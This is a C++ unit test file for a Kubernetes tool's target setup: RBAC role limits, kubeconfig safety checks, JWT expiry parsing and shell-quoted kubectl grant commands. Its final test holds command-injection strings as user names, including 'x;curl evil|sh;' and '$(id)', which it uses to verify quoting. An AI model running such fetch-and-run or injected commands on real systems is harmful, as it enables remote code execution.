// What is made on a target, the kubeconfig that comes of it, and the rights that somebody lacks.
#include <doctest/doctest.h>

#include <kubist/data/pointer.hpp>
#include <kubist/resources/object.hpp>
#include <kubist/setup/target.hpp>
#include <kubist/setup/target_rights.hpp>
#include <kubist/util/base64.hpp>
#include <kubist/util/text.hpp>

using namespace kubist;
using namespace kubist::setup;
using data::Json;

namespace {

const TargetAccount k_account{"kubist-system", "kubist-shop"};
const ClusterName k_cluster{"uid-1", "shop", "eu"};

kube::ClusterAccess eu() {
  kube::ClusterAccess access;
  access.context_name = "prod-eu";
  access.server = "https://eu.example.com:6443";
  access.ca_pem = "-----BEGIN CERTIFICATE-----\n";
  access.tls_server_name = "api.eu";
  return access;
}

/// A JWT with these claims, signed by nobody.
util::Secret jwt(const std::string& claims) {
  return util::Secret(
      util::cat("eyJhbGciOiJub25lIn0.", util::base64url_encode(claims), ".c2lnbmF0dXJl"));
}

Json rule(Json groups, Json resources, Json verbs) {
  return {{"apiGroups", std::move(groups)},
          {"resources", std::move(resources)},
          {"verbs", std::move(verbs)}};
}

}  // namespace

TEST_CASE("target: the objects name each other, and who they are for") {
  const auto objects = target_objects(k_account, k_cluster, "kubist-shop-eu-token-1");
  std::vector<std::string> kinds;
  for (const Json& object : objects) {
    kinds.emplace_back(resources::ObjectView(object).kind());
  }
  CHECK(kinds == std::vector<std::string>{"Namespace", "ServiceAccount", "ClusterRole",
                                          "ClusterRoleBinding", "Secret"});
  CHECK(objects[1]["automountServiceAccountToken"] == false);
  CHECK(objects[3]["metadata"]["name"] == "kubist-target:kubist-system:kubist-shop");
  CHECK(target_objects({"a-b", "c"}, k_cluster, "t")[3]["metadata"]["name"] !=
        target_objects({"a", "b-c"}, k_cluster, "t")[3]["metadata"]["name"]);
  CHECK(objects[3]["roleRef"]["name"] == objects[2]["metadata"]["name"]);
  CHECK(objects[3]["subjects"][0]["name"] == "kubist-shop");
  CHECK(objects[3]["subjects"][0]["namespace"] == "kubist-system");
  const resources::ObjectView token(objects[4]);
  CHECK(token.annotation("kubernetes.io/service-account.name") == "kubist-shop");
  CHECK(token.annotation(k_registered_by) == "uid-1/shop/eu");
  CHECK(objects[4]["type"] == "kubernetes.io/service-account-token");
  CHECK(k_account.user() == "system:serviceaccount:kubist-system:kubist-shop");
}

TEST_CASE("target: the role has no star among verbs, and none of all groups") {
  const Json target = target_role();
  for (const Json& each : target.at("rules")) {
    CHECK(!each.contains("resourceNames"));
    for (const Json& verb : each.at("verbs")) {
      CHECK(verb != "*");
      CHECK(verb != "escalate");
      CHECK(verb != "bind");
      CHECK(verb != "impersonate");
    }
    for (const Json& group : each.at("apiGroups")) {
      CHECK(group != "*");
    }
  }
  const Json needed = Json::array({rule({""}, {"namespaces"}, {"create", "patch", "delete"}),
                                   rule({"apps"}, {"deployments"}, {"create", "patch"}),
                                   rule({""}, {"pods/log", "nodes"}, {"get", "list"})});
  CHECK(beyond(needed, target.at("rules")) ==
        std::vector<MissingRight>{{"", "pods/log", {"list"}}, {"", "nodes", {"get"}}});
}

TEST_CASE("target: token Secrets are counted") {
  CHECK(first_token_secret(k_account, k_cluster) == "kubist-shop-eu-token-1");
  CHECK(next_token_secret("kubist-shop-eu-token-9") == "kubist-shop-eu-token-10");
  CHECK(next_token_secret("mine") == "mine-2");
}

TEST_CASE("target: a kubeconfig has the way and the token, and is one for a Secret") {
  const auto text = target_kubeconfig(eu(), util::Secret("t0ken"));
  REQUIRE_MESSAGE(text, text.error().to_string());
  const auto access = kube::strict_access(*text, "it");
  REQUIRE_MESSAGE(access, access.error().to_string());
  CHECK(access->server == "https://eu.example.com:6443");
  CHECK(access->ca_pem == eu().ca_pem);
  CHECK(access->tls_server_name == "api.eu");
  CHECK(access->auth.token.reveal() == "t0ken");
  const Json secret = kubeconfig_secret(k_cluster, k_account, "kubist-shop-eu-token-1", *text);
  CHECK(resources::ObjectView(secret).name() == "eu-kubeconfig");
  CHECK(resources::ObjectView(secret).label(k_internal_label) == "true");
  CHECK(util::base64_decode(data::string_at(secret, {"data", "value"})) == *text);
  CHECK(cluster_object(k_cluster)["spec"]["kubeconfigSecretRef"]["name"] == "eu-kubeconfig");
}

TEST_CASE("target: a way that a Secret may not have is refused by its name") {
  auto proxied = eu();
  proxied.proxy_url = "http://proxy:3128";
  auto unchecked = eu();
  unchecked.insecure = true;
  auto plain = eu();
  plain.server = "http://eu.example.com";
  for (const auto& [access, part] : {std::pair{proxied, "proxy-url"},
                                     {unchecked, "insecure-skip-tls-verify"},
                                     {plain, "server"}}) {
    const auto refused = target_kubeconfig(access, util::Secret("t0ken"));
    REQUIRE(!refused);
    const std::string said = refused.error().to_string();
    CHECK_MESSAGE(said.find(part) != std::string::npos, said);
    CHECK(said.find("prod-eu") != std::string::npos);
    CHECK(said.find("t0ken") == std::string::npos);
  }
}

TEST_CASE("target: the end of a token, where it says one") {
  const auto end = token_end(jwt(R"({"exp":1763719200,"sub":"~~~???"})"));
  REQUIRE(end);
  CHECK(std::chrono::system_clock::to_time_t(*end) == 1763719200);
  CHECK(!token_end(jwt(R"({"sub":"a"})")));
  CHECK(!token_end(jwt(R"({"exp":"soon"})")));
  CHECK(token_end(jwt(R"({"exp":1e300})")));
  CHECK(!token_end(jwt("no json")));
  CHECK(!token_end(util::Secret("opaque")));
  CHECK(!token_end(util::Secret("a.!!!.c")));
  CHECK(!token_end(util::Secret("")));
}

TEST_CASE("target: what is beyond the rights that are granted") {
  const Json wanted = Json::array(
      {rule({""}, {"pods", "pods/log"}, {"get", "list"}), rule({"apps"}, {"*"}, {"patch"})});
  CHECK(beyond(wanted, Json::array({rule({"*"}, {"*"}, {"*"})})).empty());
  CHECK(beyond(wanted, Json::array()) ==
        std::vector<MissingRight>{{"", "pods", {"get", "list"}},
                                  {"", "pods/log", {"get", "list"}},
                                  {"apps", "*", {"patch"}}});
  const Json some = Json::array({rule({""}, {"pods"}, {"get"}), rule({""}, {"*/log"}, {"*"}),
                                 rule({"apps"}, {"deployments"}, {"patch"})});
  CHECK(beyond(wanted, some) ==
        std::vector<MissingRight>{{"", "pods", {"list"}}, {"apps", "*", {"patch"}}});
  // Rights on objects of some names are none on all.
  Json named = rule({"apps"}, {"*"}, {"patch"});
  named["resourceNames"] = {"web"};
  CHECK(beyond(Json::array({wanted[1]}), Json::array({named})).size() == 1);
}

TEST_CASE("target: a missing right in words, and kubectl's command for it") {
  const MissingRight logs{"", "pods/log", {"get"}};
  CHECK(to_string(logs) == "get on pods/log");
  const MissingRight all{"apps", "deployments", {"create", "patch"}};
  CHECK(to_string(all) == "create, patch on deployments.apps");
  CHECK(grant_command(all, k_account.user()) ==
        "kubectl create clusterrole kubist-system-kubist-shop-deployments.apps "
        "--verb=create,patch --resource='deployments.apps' && kubectl create clusterrolebinding "
        "kubist-system-kubist-shop-deployments.apps "
        "--clusterrole=kubist-system-kubist-shop-deployments.apps "
        "--serviceaccount=kubist-system:kubist-shop");
  CHECK(grant_command(logs, "jane").ends_with("--user=jane"));
  // The target tells the user: a shell takes it as one word.
  CHECK(grant_command(logs, "x;curl evil|sh;").ends_with(" --user='x;curl evil|sh;'"));
  CHECK(grant_command(logs, "o'neil $(id)").ends_with(R"( --user='o'\''neil $(id)')"));
  CHECK(grant_command(logs, "").ends_with(" --user=''"));
  for (const std::string name : {"a:b;id", "--server=x:y", "a b"}) {
    const std::string command = grant_command(logs, "system:serviceaccount:" + name);
    CHECK(command.starts_with("kubectl create clusterrole kubist-pods-log "));
    CHECK(command.find(" --user=") != std::string::npos);
    CHECK(command.find("clusterrole --") == std::string::npos);
  }
  CHECK(grant_command(logs, "jane\nid").empty());
}
